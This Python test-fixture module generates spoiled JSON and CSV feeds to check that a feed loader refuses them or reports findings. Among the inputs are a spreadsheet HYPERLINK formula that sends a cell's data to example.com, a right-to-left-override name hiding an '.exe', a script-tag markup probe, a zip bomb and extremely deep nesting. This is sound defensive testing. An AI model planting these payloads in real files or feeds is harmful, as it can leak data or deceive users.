"""Feeds as their sources publish them, in small, and every way to spoil one.

A spoiled feed is bytes, or something else that lies where a file should be (``Place``). All of it is
made from one seed, so that every run meets the same feeds.
"""

import copy
import gzip
import io
import json
import random
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from enum import Enum

from openqsmo.catalog.tests.fedramp_samples import old_snapshot
from openqsmo.catalog.tests.test_grants_offerings_reader import table
from openqsmo.organizations.tests.list_samples import ELMS, OAKS, broker
from openqsmo.standards.tests.samples import document

SEED = 20260605
TEN_MEGABYTES = 10 * 1024 * 1024
FORMULA = '=HYPERLINK("https://example.com/?"&A1,"Payroll")'
RIGHT_TO_LEFT = "Payroll \u202egnp.exe\u202c \u200f\u2066"

DOCUMENTS: dict[str, Callable[[], dict]] = {"fedramp": old_snapshot, "fibf": document}
TABLES: dict[str, Callable[[], bytes]] = {
    "grants-offerings": lambda: table({}, {"offering": "Birch Awards"}),
    "agencies": lambda: broker(OAKS, ELMS)[1],
}
ENDING = {"fedramp": "json", "fibf": "json", "grants-offerings": "csv", "agencies": "csv"}
KINDS = tuple(ENDING)


class Place(Enum):
    """What lies where the file should be."""

    NOTHING = "nothing"
    EMPTY_FOLDER = "an empty folder"
    FOLDER_OF_FOLDERS = "a folder with a folder in it"
    LOOP = "a link to itself"
    DEVICE = "a device that never ends"
    NUL_NAME = "a name with a NUL character"
    LONG_NAME = "a name that is too long"


@dataclass(frozen=True)
class Spoiled:
    """A feed of one kind, spoiled in one way; ``must_be_refused`` where no part of it can be used.

    Where it can be read all the same, ``finding`` is the kind of finding that its report must have.
    """

    kind: str
    how: str
    what: bytes | Place
    must_be_refused: bool = False
    finding: str = ""

    def __str__(self) -> str:
        return f"{self.kind}: {self.how}"


def good(kind: str) -> bytes:
    """A feed that loads."""
    return json.dumps(DOCUMENTS[kind]()).encode() if kind in DOCUMENTS else TABLES[kind]()


def spoiled() -> Iterator[Spoiled]:
    """Every spoiled feed of every kind, the same in every run."""
    for kind in KINDS:
        ways = [*in_place(kind), *as_bytes(good(kind)), *encoded(good(kind))]
        ways += in_document(kind) if kind in DOCUMENTS else in_table(good(kind))
        yield from (Spoiled(kind, *way) for way in ways)


def in_place(kind: str) -> Iterator[tuple]:
    yield from ((place.value, place, True) for place in Place)


def as_bytes(raw: bytes) -> Iterator[tuple]:
    """Cut off, damaged, or something else altogether."""
    chance = random.Random(SEED)  # noqa: S311
    for part in sorted(chance.sample(range(2, 98), 10)):
        yield f"cut off after {part} %", raw[: len(raw) * part // 100], raw.startswith(b"{")
    for number in range(3):
        yield f"other bytes {number}", chance.randbytes(400), True
    for number in range(6):
        at = chance.randrange(len(raw))
        yield f"a byte changed {number}", raw[:at] + chance.randbytes(1) + raw[at + 1 :]
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("feed", b"\0" * TEN_MEGABYTES)
    yield "a zip file that unpacks to ten megabytes", packed.getvalue(), True
    yield "packed by gzip", gzip.compress(raw, mtime=0), True
    yield "a picture", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\6\0\0\0\x1f\x15\xc4\x89", True
    yield "the error page of a web server", b"<!doctype html><title>502</title><h1>Bad gateway</h1>", True
    yield "empty", b"", True
    yield "blanks only", b" \r\n\t\n", True
    yield "a NUL character before", b"\0" + raw, True
    yield "a NUL character inside", raw[:200] + b"\0" + raw[200:], True
    yield "a NUL character after", raw + b"\0", True


def encoded(raw: bytes) -> Iterator[tuple]:
    """Written in other ways than UTF-8, or only partly so."""
    text = raw.decode()
    for encoding in ("utf-16", "utf-32", "utf-8-sig"):
        yield f"as {encoding}", text.encode(encoding), False, "" if encoding == "utf-8-sig" else "not_utf8"
    for encoding in ("utf-16-le", "utf-16-be", "utf-32-le"):
        yield f"as {encoding} without a mark", text.encode(encoding), True
    yield "a byte-order mark only", b"\xef\xbb\xbf", True
    yield "half a character of UTF-16", text.encode("utf-16")[:-1], True
    at = len(raw) // 2 + raw[len(raw) // 2 :].index(b"a")
    yield "a letter of Windows", raw[:at] + "\u00e9".encode("cp1252") + raw[at + 1 :], False, "not_utf8"
    yield "half of a pair as UTF-8", raw[:at] + b"\xed\xa0\x80" + raw[at + 1 :], False, "not_utf8"
    yield "carriage returns only", raw.replace(b"\r\n", b"\n").replace(b"\n", b"\r")


def in_document(kind: str) -> Iterator[tuple]:
    """JSON that is not JSON, and JSON with something else in one of its places."""
    make = DOCUMENTS[kind]
    raw = good(kind)
    yield "a comma too many", raw[:-1] + b",}", True
    yield "a second document after it", raw + raw, True
    yield "a comment", b"// published daily\n" + raw, True
    yield "single quotes", raw.replace(b'"', b"'"), True
    yield "nested a hundred thousand deep", b"[" * 100_000 + b"]" * 100_000, True
    yield "an object nested ninety deep", b'{"a":' * 90 + b"1" + b"}" * 90, True
    for word in (b"NaN", b"Infinity", b"-Infinity"):
        yield f"{word.decode()} for a text", first_text(raw, word), True
    yield "a number of five thousand digits", first_text(raw, b"9" * 5_000), True
    yield "a number too large for a float", first_text(raw, b"1e999")
    yield "every key twice", raw.replace(b"{", b"{" + raw[1:-1] + b",", 1), False, "key_repeated"
    twice = b'{"data": 5, "Business_Lifecycle": 5,'
    yield "one key twice", raw.replace(b"{", twice, 1), False, "key_repeated"
    whole = make()
    chance = random.Random(SEED)  # noqa: S311
    places = [place for place in paths(whole) if place]
    for value in (None, True, 5, -1.5e300, "", "x", [], {}, [[None]], {"x": {"y": []}}, 10**300):
        for place in chance.sample(places, 3):
            changed = json.dumps(with_value(whole, place, value)).encode()
            yield f"{written(value)} at {dotted(place)}", changed
    for name, value in {
        "half of a pair": "Payroll \ud800", "a NUL character": "Payroll\0", "a formula": FORMULA,
        "right-to-left marks": RIGHT_TO_LEFT, "ten megabytes": "x " * (TEN_MEGABYTES // 2),
        "a hundred thousand lines": "a\n" * 100_000, "markup": "<script>alert(1)</script>",
    }.items():  # fmt: skip
        for place in chance.sample([p for p in places if isinstance(at(whole, p), str)], 3):
            yield f"{name} at {dotted(place)}", json.dumps(with_value(whole, place, value)).encode()
    for value in (None, 5, "x", [], [5], {}):
        yield f"{written(value)} for all of it", json.dumps(value).encode(), True


def in_table(raw: bytes) -> Iterator[tuple]:
    """CSV that is no table, or not this one."""
    header, *rows = raw.decode().splitlines()
    first = rows[0]
    yield "a quote that never ends", raw.replace(b",", b',"', 1), True
    yield "a header only", header.encode()
    yield "no header", "\n".join(rows).encode(), True
    yield "the header of something else", f"name,price\n{first}".encode(), True
    yield "a header in capitals of the wrong kind", f"{header.swapcase()}\n{first}".encode(), True
    yield "one column less", "\n".join(line.partition(",")[2] for line in (header, *rows)).encode(), True
    yield "semicolons for commas", raw.replace(b",", b";"), True
    yield "tabs for commas", raw.replace(b",", b"\t"), True
    doubled = "\n".join(f"{line},{line}" for line in (header, *rows)).encode()
    yield "every column twice", doubled, False, "column_repeated"
    yield "a row too short", f"{raw.decode()}Birch,Elm\n".encode(), False, "ragged_row"
    yield "a row too long", f"{raw.decode()}{first},{first}\n".encode(), False, "ragged_row"
    wide = f"{raw.decode()}{',' * 5_000}x\n".encode()
    yield "a row of five thousand cells", wide, False, "ragged_row"
    wide = f"{header}{',x' * 5_000}\n{first}{',x' * 5_000}".encode()
    yield "a header of five thousand columns", wide, False, "column_repeated"
    yield "a hundred thousand blank lines", raw + b"\n" * 100_000
    yield "every row a hundred times", raw + "".join(f"{row}\n" for row in rows * 100).encode()
    cells = first.split(",")
    for name, value in {
        "a formula": FORMULA, "right-to-left marks": RIGHT_TO_LEFT, "ten megabytes": "x " * (TEN_MEGABYTES // 2),
        "almost a million characters": "x " * 499_000, "markup": "<script>alert(1)</script>",
        "a hundred thousand lines": "a\n" * 100_000, "a number too long": "9" * 5_000,
    }.items():  # fmt: skip
        quoted = '"' + value.replace('"', '""') + '"'
        for number in range(0, 6, 2):
            row = ",".join([*cells[:number], quoted, *cells[number + 1 :]])
            yield f"{name} in cell {number + 1}", f"{raw.decode()}{row}\n".encode()


def first_text(raw: bytes, value: bytes) -> bytes:
    """The document with its first text value replaced by something that is not quoted."""
    before, _, rest = raw.partition(b': "')
    return before + b": " + value + rest[rest.index(b'"') + 1 :]


def paths(value: object, path: tuple = ()) -> Iterator[tuple]:
    """Every place in a JSON value, the whole first."""
    yield path
    steps = value if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ()
    for step in steps:
        yield from paths(value[step], (*path, step))


def at(value: object, path: tuple) -> object:
    for step in path:
        value = value[step]
    return value


def with_value(value: dict, path: tuple, replacement: object) -> dict:
    changed = copy.deepcopy(value)
    at(changed, path[:-1])[path[-1]] = replacement
    return changed


def dotted(path: tuple) -> str:
    return ".".join(map(str, path))


def written(value: object) -> str:
    return f"{value!r}"[:24]
